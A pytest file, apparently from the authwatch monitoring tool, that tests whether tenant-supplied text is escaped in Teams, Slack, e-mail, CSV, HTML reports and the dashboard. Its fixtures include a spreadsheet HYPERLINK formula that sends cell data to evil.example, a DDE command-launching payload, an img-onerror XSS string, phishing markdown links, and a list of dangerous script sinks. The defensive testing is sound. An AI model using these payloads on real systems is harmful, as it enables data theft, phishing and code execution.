"""Tenant-controlled text (tenant names, Conditional Access policy names, UPNs, summaries built from them) stays text in
everything a person opens: CSV cells never start a formula, Teams cards and Slack messages never turn it into a link
or formatting, the e-mail and the HTML report escape it, the dashboard never puts it in the page as HTML (issue 22,
item 6)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import httpx
import pytest

from shared.alerts.channels.email import GraphMail
from shared.alerts.channels.slack import SlackWebhook
from shared.alerts.channels.teams import TeamsWorkflow
from shared.alerts.content import AlertGroup, Digest, DigestEntry
from shared.collect.credentials import CredentialSpec
from shared.controls import controls
from shared.state.events import Event
from shared.views import reports

TENANT = "8c1d0f4e-1a2b-4c3d-8e9f-00000000beef"
T1 = datetime(2026, 11, 23, 8, 0, tzinfo=timezone.utc)
LINK = f"https://authwatch.example/app#/tenants/{TENANT}"
EVIL = "https://evil.example/consent"

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click to fix")'
MD_LINK = f"[Re-consent now]({EVIL})"
SLACK_LINK = f"<{EVIL}|Re-consent now>"
EMPHASIS = "*urgent* _now_ ~gone~ `code`"
POLICY = f"{MD_LINK} {SLACK_LINK} {EMPHASIS}"


def record(kind, control, severity, summary, details, subject=""):
    return Event(T1, TENANT, kind, control, severity, summary, details, subject).to_record()


DRIFT = record("drift.weakened", "entra_legacy_auth_blocked", "high",
               f"Protection weakened by {MD_LINK}: Conditional Access policy '{POLICY}': state: enabled → "
               "enabledForReportingButNotEnforced.",
               {"changes": [{"field": "displayName", "before": "Block legacy auth", "after": POLICY,
                             "effect": "weakened", "note": MD_LINK}],
                "changedBy": SLACK_LINK, "changedAt": "2026-11-23T07:41:00Z"}, subject="ca:1")
FAILED = record("control.failed", "exo_smtp_auth_disabled", "high", f"SMTP AUTH is on. {POLICY}",
                {"before": "pass", "after": "fail", "remediation": f"Set-User '{EMPHASIS}'\n- {MD_LINK}\n1. step"})


def group() -> AlertGroup:
    return AlertGroup(TENANT, f"{FORMULA} {MD_LINK}", (DRIFT, FAILED), LINK, T1 + timedelta(hours=1))


def digest() -> Digest:
    return Digest("d" * 32, T1 + timedelta(days=2), "high",
                  (DigestEntry(TENANT, f"{MD_LINK} {SLACK_LINK}", LINK, (DRIFT, FAILED)),))


# --- Teams: Adaptive Card TextBlocks and facts render markdown ------------------------------------------------------

def card_texts(node) -> list[str]:
    """Every string an Adaptive Card renders as markdown: TextBlock text, fact titles and values."""
    found: list[str] = []
    if isinstance(node, dict):
        if node.get("type") == "TextBlock":
            found.append(node["text"])
        if "title" in node and "value" in node:  # a fact
            found += [node["title"], node["value"]]
        for value in node.values():
            found += card_texts(value)
    elif isinstance(node, list):
        for value in node:
            found += card_texts(value)
    return found


def markdown_links(text: str) -> list[str]:
    """What CommonMark would make a link or an image of: [text](url), ![alt](url), <scheme:…> autolinks. Backslash
    escapes are taken out first, as a CommonMark parser does."""
    plain = re.sub(r"\\[!-/:-@\[-`{-~]", "\x00", text)
    return re.findall(r"!?\[[^\]]*\]\(|<[a-zA-Z][a-zA-Z0-9+.-]{1,31}:", plain)


def unescaped(text: str) -> str:
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


@pytest.mark.parametrize("render", ["alert", "digest"])
def test_teams_cards_never_turn_tenant_text_into_a_link_or_formatting(render):
    teams = TeamsWorkflow("soc", httpx.URL("https://x.logic.azure.com/w"))
    message = teams.render_alert(group()) if render == "alert" else teams.render_digest(digest())
    texts = card_texts(message)
    assert texts and not [text for text in texts if markdown_links(text)], [t for t in texts if markdown_links(t)]
    joined = "\n".join(texts)
    assert "*urgent*" not in joined and "_now_" not in joined and "`code`" not in joined  # no emphasis, no code
    assert not re.search(r"(^|\n)\s*(-|\d+\.) ", joined)  # no list made from a tenant's line breaks
    # The words are all still there for a person to read.
    assert "[Re-consent now](https://evil.example/consent)" in unescaped(joined)
    assert "*urgent* _now_ ~gone~ `code`" in unescaped(joined)
    card = message["attachments"][0]["content"]
    urls = json.dumps(card.get("actions", [])) + json.dumps([n for n in texts if "Action" in n])
    assert EVIL not in urls  # the only buttons lead to the dashboard


def test_teams_keeps_its_own_emphasis_in_the_digest():
    texts = card_texts(TeamsWorkflow("soc", httpx.URL("https://x/w")).render_digest(digest()))
    assert any(text.startswith("**HIGH** ") for text in texts)


# --- Slack: mrkdwn ---------------------------------------------------------------------------------------------------

def mrkdwn_texts(message: dict) -> list[dict]:
    """Every mrkdwn text object of a Block Kit message, and the top-level `text` (notifications render mrkdwn)."""
    found = [{"type": "mrkdwn", "text": message["text"]}]

    def walk(node):
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn":
                found.append(node)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(message["blocks"])
    return found


@pytest.mark.parametrize("render", ["alert", "digest"])
def test_slack_messages_never_turn_tenant_text_into_a_link_or_formatting(render):
    slack = SlackWebhook("ops", httpx.URL("https://hooks.slack.com/services/x"))
    message = slack.render_alert(group()) if render == "alert" else slack.render_digest(digest())
    objects = mrkdwn_texts(message)
    for item in objects:
        links = re.findall(r"<([^>]*)>", item["text"])
        assert all(link.startswith(LINK + "|") for link in links), links  # only authwatch's own dashboard link
        assert "<https://evil" not in item["text"] and "<!" not in item["text"]
        for marker in ("*urgent*", "_now_", "~gone~", "`code`"):
            assert marker not in item["text"], (marker, item["text"])
    blocks = [item for item in objects[1:]]
    assert blocks and all(item.get("verbatim") is True for item in blocks)  # bare URLs are not auto-linked
    text = json.dumps(message, ensure_ascii=False)
    assert "&lt;https://evil.example/consent|Re-consent now&gt;" in text  # shown, as text


def test_slack_keeps_authwatch_emphasis_and_the_dashboard_link():
    message = SlackWebhook("ops", httpx.URL("https://h/x")).render_digest(digest())
    text = "\n".join(item["text"] for item in mrkdwn_texts(message))
    assert "• *HIGH* " in text and f"<{LINK}|Open " in text
    assert "first_last@contoso.example" in SlackWebhook("ops", httpx.URL("https://h/x")).render_alert(AlertGroup(
        TENANT, "Contoso", (record("control.failed", "exo_smtp_auth_disabled", "high",
                                   "SMTP AUTH on for first_last@contoso.example", {}),), LINK, T1)
    )["blocks"][3]["text"]["text"]  # an underscore inside a word stays an underscore


# --- e-mail (HTML) ----------------------------------------------------------------------------------------------------

def test_email_html_escapes_tenant_text_and_links_only_the_dashboard():
    mail = GraphMail("mail", tenant_id=TENANT, credential=CredentialSpec.from_json(
        {"mode": "federated", "clientId": "5f0c8a7e-7c1b-4c52-9a43-6b1f2d3e4a50",
         "managedIdentityClientId": "0b0e7a11-0000-4000-8000-000000000001"}), sender="authwatch@contoso.example",
        to=["soc@contoso.example"], cc=[], save_to_sent_items=False)
    hostile = AlertGroup(TENANT, '<img src=x onerror="alert(1)"><a href="https://evil.example/">x</a>',
                         (DRIFT, FAILED), LINK, T1)
    for message in (mail.render_alert(hostile)["message"], mail.render_digest(digest())["message"]):
        body = message["body"]["content"]
        assert re.findall(r'<a href="([^"]*)"', body) == [LINK]
        assert "<img" not in body and "<a href=\"https://evil" not in body and "&lt;https://evil" in body
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in mail.render_alert(hostile)["message"]["body"]["content"]


# --- reports ----------------------------------------------------------------------------------------------------------

CONTROL_IDS = [control.id for control in controls()]


def hostile_report() -> dict:
    detail = {"tenantId": TENANT, "displayName": FORMULA, "status": "failing", "enabled": True,
              "lastCollectedAt": "2026-11-23T09:00:00Z", "lastError": "@SUM(1+1)*cmd|' /C calc'!A0",
              "controls": [{"control": c, "status": "fail", "severity": "high", "summary": summary,
                            "frameworks": [], "remediation": remediation, "evaluatedAt": "2026-11-23T09:00:00Z"}
                           for c, summary, remediation in zip(
                               CONTROL_IDS, ["+1+cmd", "-2+3", "@A1", "\tTAB", "\rCR", "=1", MD_LINK, "ok", "ok"],
                               ["-", "+x", "=y", "@z", "\t", "\r", "\n=z", "fine", "fine"])],
              "openAlerts": [{**DRIFT, "acknowledged": False, "snoozed": False}], "enforcementWindow": None,
              "history": [DRIFT], "hasBaseline": True}
    return reports.assemble([detail], now=T1)


def test_csv_cells_never_start_a_formula():
    text = reports.to_csv(hostile_report())
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    numeric = {header.index("open_alerts")}
    assert body
    for row in body:
        for index, cell in enumerate(row):
            if index not in numeric:
                assert not cell or cell[0] not in "=+-@\t\r\n", (header[index], cell)
    first = dict(zip(header, body[0]))
    assert first["tenant_name"] == "'" + FORMULA  # the text itself is kept, behind a quote
    # A carriage return inside a cell is written as a line break (Python's csv would leave a lone CR unquoted).
    assert [dict(zip(header, row))["summary"] for row in body][:6] == ["'+1+cmd", "'-2+3", "'@A1", "'\tTAB",
                                                                      "'\nCR", "'=1"]
    assert first["open_alerts"] == "1" and first["evaluated_at"] == "2026-11-23T09:00:00Z"


def test_csv_keeps_numbers_in_numeric_columns_and_quotes_them_in_text_columns():
    assert reports.csv_cell(-3, numeric=True) == "-3" and reports.csv_cell(2, numeric=True) == "2"
    assert reports.csv_cell("-3") == "'-3" and reports.csv_cell("-3", numeric=True) == "'-3"  # text stays text
    assert reports.csv_cell("Contoso") == "Contoso" and reports.csv_cell(None) == ""


def test_html_report_escapes_tenant_text():
    page = reports.to_html(hostile_report())
    assert not re.search(r"<a href=\"(?!#t-)", page)  # only the report's own anchors
    assert "<img" not in page and "&quot;https://evil.example/?&quot;" in page
    assert "[Re-consent now](https://evil.example/consent)" in page  # HTML does not render markdown: text


def test_dashboard_script_never_writes_html():
    script = (Path(reports.__file__).parent / "web" / "app.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
        assert sink not in script, sink
    hrefs = re.findall(r"href: ([^,}]+)", script)
    assert hrefs and all(h.strip() in ('"#/"', "tenantLink(r.id)") for h in hrefs), hrefs  # no href from data
